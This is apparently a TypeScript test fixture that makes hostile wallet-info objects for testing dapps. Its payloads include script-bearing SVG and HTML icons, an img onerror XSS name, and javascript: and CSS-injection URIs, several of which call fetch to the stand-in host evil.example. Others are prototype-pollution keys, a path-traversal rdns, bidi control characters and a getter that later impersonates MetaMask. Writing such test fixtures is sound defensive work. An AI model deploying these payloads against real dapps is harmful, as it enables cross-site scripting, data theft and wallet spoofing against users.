import type { WalletInfo } from '../types/FakeWallet.ts'

/** Returns malicious or malformed wallet info for a dapp's tests: `announce({ info: createHostileInfo(wallet.info, { kind: 'htmlName' }) })`. */
export function createHostileInfo(
  info: WalletInfo,
  parameters: createHostileInfo.Parameters,
): WalletInfo {
  const { kind, url = 'https://evil.example/' } = parameters
  return kinds[kind](info, url)
}

export declare namespace createHostileInfo {
  type Kind = keyof typeof kinds
  type Parameters = {
    kind: Kind
    /** URL to which the attack would send data. Default `https://evil.example/`. */
    url?: string | undefined
  }
}

type Make = (info: WalletInfo, url: string) => WalletInfo

const kinds = {
  svgScript: (info, url) => ({
    ...info,
    icon: toDataUri(
      'image/svg+xml',
      `<svg xmlns="http://www.w3.org/2000/svg" onload="fetch('${url}')"><script>fetch('${url}')</script><image href="${url}"/></svg>`,
    ),
  }),
  remoteIcon: (info, url) => ({ ...info, icon: url }),
  javascriptIcon: (info, url) => ({
    ...info,
    icon: `javascript:fetch('${url}')`,
  }),
  htmlIcon: (info, url) => ({
    ...info,
    icon: toDataUri('text/html', `<script>fetch('${url}')</script>`),
  }),
  hugeIcon: (info) => ({
    ...info,
    icon: toDataUri('image/svg+xml', 'x'.repeat(1_000_000)),
  }),
  cssIcon: (info, url) => ({
    ...info,
    icon: `data:image/png;base64,") , url("${url}`,
  }),
  htmlName: (info, url) => ({
    ...info,
    name: `<img src=x onerror="fetch('${url}')">`,
  }),
  longName: (info) => ({ ...info, name: 'N'.repeat(10_000) }),
  emptyName: (info) => ({ ...info, name: '' }),
  /** Right-to-left override, zero-width and control characters. */
  bidiName: (info) => ({ ...info, name: 'Meta\u202eksaM\u200b\u0007\u0000' }),
  /** Returns valid values for the first read only. */
  changingInfo: (info, url) => {
    const reads = { name: 0, rdns: 0, icon: 0 }
    return {
      uuid: info.uuid,
      get name() {
        return reads.name++ === 0 ? info.name : `<b>${info.name}</b>`
      },
      get rdns() {
        return reads.rdns++ === 0 ? info.rdns : 'io.metamask'
      },
      get icon() {
        return reads.icon++ === 0 ? info.icon : url
      },
    }
  },
  throwingInfo: (info) => ({
    ...info,
    get name(): string {
      throw new Error('The name can not be read.')
    },
  }),
  badUuid: (info) => ({ ...info, uuid: 'not-a-uuid' }),
  badRdns: (info) => ({ ...info, rdns: '../../etc<script>' }),
  /** Own keys that a careless merge would write into `Object.prototype`. */
  prototypeKeys: (info) =>
    JSON.parse(
      `{"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}},${JSON.stringify(info).slice(1)}`,
    ),
  wrongTypes: () =>
    ({
      uuid: 1,
      name: { toString: () => 'name' },
      icon: null,
      rdns: ['io.metamask'],
    }) as unknown as WalletInfo,
} as const satisfies Record<string, Make>

function toDataUri(type: string, content: string): string {
  return `data:${type},${encodeURIComponent(content)}`
}
